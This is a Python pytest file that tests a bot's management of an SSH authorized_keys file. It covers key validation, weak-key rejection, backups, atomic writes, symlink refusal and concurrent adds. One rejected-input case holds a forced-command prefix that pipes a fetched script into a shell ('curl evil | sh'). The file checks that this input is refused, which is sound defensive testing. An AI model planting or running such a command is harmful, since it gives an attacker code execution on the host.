"""authorized_keys management against the real ssh-keygen, on temporary files only."""
from __future__ import annotations

import asyncio
import base64
import errno
import os
import stat
import struct
import subprocess
from pathlib import Path

import pytest

from spbot.system import sshkeys
from spbot.system.sshkeys import (
    AuthorizedKeys,
    DuplicateKey,
    InvalidKey,
    KeyFileError,
    KeyNotAllowed,
    KeyNotFound,
    SshKeysParams,
    split_key_line,
)


def _generate(directory: Path, name: str, *args: str) -> str:
    path = directory / name
    subprocess.run(["ssh-keygen", "-q", "-N", "", "-C", f"{name}@test", "-f", str(path), *args],
                   check=True, capture_output=True)
    return (directory / f"{name}.pub").read_text().strip()


def _fingerprint(pub_line: str) -> str:
    out = subprocess.run(["ssh-keygen", "-l", "-E", "sha256", "-f", "-"], input=pub_line.encode(),
                         check=True, capture_output=True).stdout.decode()
    return out.split()[1]


def _sk_ed25519_line(comment: str = "yubikey") -> str:
    """A well-formed sk-ssh-ed25519 public key (no hardware token needed to build the public half)."""
    def field(data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + data

    blob = field(b"sk-ssh-ed25519@openssh.com") + field(os.urandom(32)) + field(b"ssh:")
    return f"sk-ssh-ed25519@openssh.com {base64.b64encode(blob).decode()} {comment}"


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, str]:
    d = tmp_path_factory.mktemp("keys")
    return {
        "ed25519": _generate(d, "ed25519", "-t", "ed25519"),
        "ed25519_b": _generate(d, "ed25519_b", "-t", "ed25519"),
        "ecdsa": _generate(d, "ecdsa", "-t", "ecdsa", "-b", "384"),
        "rsa3072": _generate(d, "rsa3072", "-t", "rsa", "-b", "3072"),
        "rsa2048": _generate(d, "rsa2048", "-t", "rsa", "-b", "2048"),
    }


@pytest.fixture
def auth_path(tmp_path) -> Path:
    home = tmp_path / "root"
    home.mkdir()
    return home / ".ssh" / "authorized_keys"


@pytest.fixture
def store(auth_path) -> AuthorizedKeys:
    return AuthorizedKeys(SshKeysParams(path=auth_path))


def assert_well_formed(path: Path, expected_keys: int) -> None:
    """0600, ends with a newline, and the real ssh-keygen reads every key line in it."""
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    text = path.read_text()
    assert text == "" or text.endswith("\n")
    key_lines = [line for line in text.splitlines() if split_key_line(line) is not None]
    assert len(key_lines) == expected_keys
    if expected_keys:
        out = subprocess.run(["ssh-keygen", "-l", "-f", str(path)], capture_output=True, text=True)
        assert out.returncode == 0
        assert len(out.stdout.splitlines()) == expected_keys


def assert_no_temp_files(directory: Path) -> None:
    assert [p.name for p in directory.iterdir() if p.name.endswith(".tmp")] == []


def assert_safe_message(exc: BaseException, key_line: str) -> None:
    blob = key_line.split()[1] if len(key_line.split()) > 1 else key_line
    assert blob[:20] not in str(exc)


async def test_list_of_missing_file_is_empty(store):
    assert await store.list() == []


async def test_add_valid_keys_creates_private_dir_and_file(store, auth_path, keys):
    added = [await store.add(keys[name]) for name in ("ed25519", "ecdsa", "rsa3072")]
    assert stat.S_IMODE(auth_path.parent.stat().st_mode) == 0o700
    assert_well_formed(auth_path, 3)
    listed = await store.list()
    assert [(k.key_type, k.kind, k.bits) for k in listed] == [
        ("ssh-ed25519", "ED25519", 256), ("ecdsa-sha2-nistp384", "ECDSA", 384), ("ssh-rsa", "RSA", 3072)]
    assert [k.fingerprint for k in listed] == [_fingerprint(keys[n]) for n in ("ed25519", "ecdsa", "rsa3072")]
    assert [k.fingerprint for k in added] == [k.fingerprint for k in listed]
    assert [k.comment for k in listed] == ["ed25519@test", "ecdsa@test", "rsa3072@test"]
    assert [k.line_no for k in listed] == [1, 2, 3]


async def test_add_security_key(store, auth_path):
    key = await store.add(_sk_ed25519_line())
    assert (key.kind, key.comment) == ("ED25519-SK", "yubikey")
    assert_well_formed(auth_path, 1)


async def test_add_normalizes_whitespace_and_comment(store, auth_path, keys):
    kind, blob, _ = keys["ed25519"].split(" ", 2)
    await store.add(f"  {kind}   {blob}   alice's   laptop\t \n")
    assert auth_path.read_text() == f"{kind} {blob} alice's laptop\n"


@pytest.mark.parametrize("bad, error, words", [
    ("", InvalidKey, "no key"),
    ("hello there, here is my key", InvalidKey, "not an SSH public key"),
    ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB", InvalidKey, "cannot read"),
    ("ssh-ed25519 !!!notbase64!!! me", InvalidKey, "not an SSH public key"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
     InvalidKey, "PRIVATE"),
    ("---- BEGIN SSH2 PUBLIC KEY ----\nAAAAB3NzaC1yc2E\n---- END SSH2 PUBLIC KEY ----", InvalidKey, "PuTTY"),
    ("ssh-dss AAAAB3NzaC1kc3MAAACBAP me", KeyNotAllowed, "not accepted"),
    ("ssh-ed25519-cert-v01@openssh.com AAAAIHNzaC1lZDI1NTE5LWNlcnQ me", KeyNotAllowed, "not accepted"),
    ("x" * 9000, InvalidKey, "too long"),
])
async def test_add_rejects_garbage(store, auth_path, bad, error, words):
    with pytest.raises(error, match=words):
        await store.add(bad)
    assert not auth_path.exists()


async def test_add_rejects_two_keys_at_once(store, auth_path, keys):
    with pytest.raises(InvalidKey, match="one key at a time"):
        await store.add(keys["ed25519"] + "\n" + keys["ecdsa"])
    assert not auth_path.exists()


async def test_add_rejects_short_rsa(store, auth_path, keys):
    with pytest.raises(KeyNotAllowed, match="2048 bits; at least 3072") as info:
        await store.add(keys["rsa2048"])
    assert_safe_message(info.value, keys["rsa2048"])
    assert not auth_path.exists()


async def test_add_rejects_type_that_does_not_match_the_data(store, keys):
    rsa_blob = keys["rsa3072"].split()[1]
    with pytest.raises(InvalidKey) as info:
        await store.add(f"ssh-ed25519 {rsa_blob} sneaky")
    assert_safe_message(info.value, keys["rsa3072"])


@pytest.mark.parametrize("prefix", [
    'command="/bin/sh -c \'curl evil | sh\'"',
    'no-pty,from="10.0.0.0/8"',
    'restrict',
])
async def test_add_rejects_options_and_forced_commands(store, auth_path, keys, prefix):
    await store.add(keys["ed25519_b"])
    before = auth_path.read_bytes()
    with pytest.raises(KeyNotAllowed, match="options or a forced command") as info:
        await store.add(f"{prefix} {keys['ed25519']}")
    assert_safe_message(info.value, keys["ed25519"])
    assert auth_path.read_bytes() == before


async def test_add_rejects_duplicates_even_with_another_comment(store, auth_path, keys):
    first = await store.add(keys["ed25519"])
    kind, blob, _ = keys["ed25519"].split(" ", 2)
    with pytest.raises(DuplicateKey, match="already authorized") as info:
        await store.add(f"{kind} {blob} same key new name")
    assert first.fingerprint in str(info.value)
    assert_safe_message(info.value, keys["ed25519"])
    assert_well_formed(auth_path, 1)


async def test_remove_by_fingerprint_keeps_a_backup(store, auth_path, keys):
    await store.add(keys["ed25519"])
    await store.add(keys["ecdsa"])
    before = auth_path.read_text()
    fp = _fingerprint(keys["ed25519"])
    removed = await store.remove(fp)
    assert [k.fingerprint for k in removed] == [fp]
    assert_well_formed(auth_path, 1)
    assert [k.comment for k in await store.list()] == ["ecdsa@test"]
    backup = auth_path.with_name("authorized_keys.bak")
    assert backup.read_text() == before
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    # without the "SHA256:" prefix too
    await store.remove(_fingerprint(keys["ecdsa"]).removeprefix("SHA256:"))
    assert_well_formed(auth_path, 0)
    assert await store.list() == []


async def test_remove_unknown_or_malformed_fingerprint(store, auth_path, keys):
    await store.add(keys["ed25519"])
    before = auth_path.read_bytes()
    with pytest.raises(KeyNotFound, match="SHA256:"):
        await store.remove(_fingerprint(keys["ecdsa"]))
    with pytest.raises(InvalidKey, match="not a SHA256 fingerprint"):
        await store.remove("MD5:12:34")
    assert auth_path.read_bytes() == before


async def test_lines_the_bot_does_not_manage_are_kept(store, auth_path, keys):
    auth_path.parent.mkdir(mode=0o700)
    foreign = [
        "# managed by hand",
        f'from="10.0.0.0/8",command="uptime" {keys["ecdsa"]}',
        "this line is junk",
        "",
    ]
    auth_path.write_text("\n".join(foreign) + "\n")
    auth_path.chmod(0o600)
    listed = await store.list()
    assert [(k.line_no, k.options) for k in listed] == [(2, 'from="10.0.0.0/8",command="uptime"')]
    await store.add(keys["ed25519"])
    await store.remove(_fingerprint(keys["ed25519"]))
    assert auth_path.read_text() == "\n".join(foreign) + "\n"


async def test_failed_rename_leaves_the_original_intact(store, auth_path, keys, monkeypatch):
    await store.add(keys["ed25519"])
    before = auth_path.read_bytes()
    real_replace = os.replace

    def failing_replace(src, dst):
        if Path(dst) == auth_path:
            raise OSError(errno.EIO, "Input/output error")
        return real_replace(src, dst)

    monkeypatch.setattr(sshkeys.os, "replace", failing_replace)
    with pytest.raises(KeyFileError, match="previous file is unchanged") as info:
        await store.add(keys["ecdsa"])
    assert_safe_message(info.value, keys["ecdsa"])
    with pytest.raises(KeyFileError):
        await store.remove(_fingerprint(keys["ed25519"]))
    assert auth_path.read_bytes() == before
    assert_well_formed(auth_path, 1)
    assert_no_temp_files(auth_path.parent)

    monkeypatch.setattr(sshkeys.os, "replace", real_replace)
    await store.add(keys["ecdsa"])
    assert_well_formed(auth_path, 2)


async def test_failed_write_leaves_the_original_intact(store, auth_path, keys, monkeypatch):
    await store.add(keys["ed25519"])
    before = auth_path.read_bytes()

    def full_disk(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(sshkeys.os, "fsync", full_disk)
    with pytest.raises(KeyFileError, match="No space left"):
        await store.add(keys["ecdsa"])
    monkeypatch.undo()
    assert auth_path.read_bytes() == before
    assert_no_temp_files(auth_path.parent)


@pytest.mark.skipif(os.geteuid() != 0, reason="changing ownership needs root")
async def test_owner_and_group_are_kept(store, auth_path, keys):
    auth_path.parent.mkdir(mode=0o700)
    auth_path.write_text(keys["ed25519"] + "\n")
    os.chown(auth_path, 1234, 2345)
    await store.add(keys["ecdsa"])
    st = auth_path.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (1234, 2345, 0o600)


async def test_symlinked_file_is_refused(store, auth_path, keys, tmp_path):
    auth_path.parent.mkdir(mode=0o700)
    target = tmp_path / "elsewhere"
    target.write_text("")
    auth_path.symlink_to(target)
    with pytest.raises(KeyFileError, match="symbolic link"):
        await store.add(keys["ed25519"])
    assert target.read_text() == ""


async def test_concurrent_adds_do_not_lose_a_key(store, auth_path, keys):
    await asyncio.gather(*(store.add(keys[n]) for n in ("ed25519", "ed25519_b", "ecdsa", "rsa3072")))
    assert_well_formed(auth_path, 4)
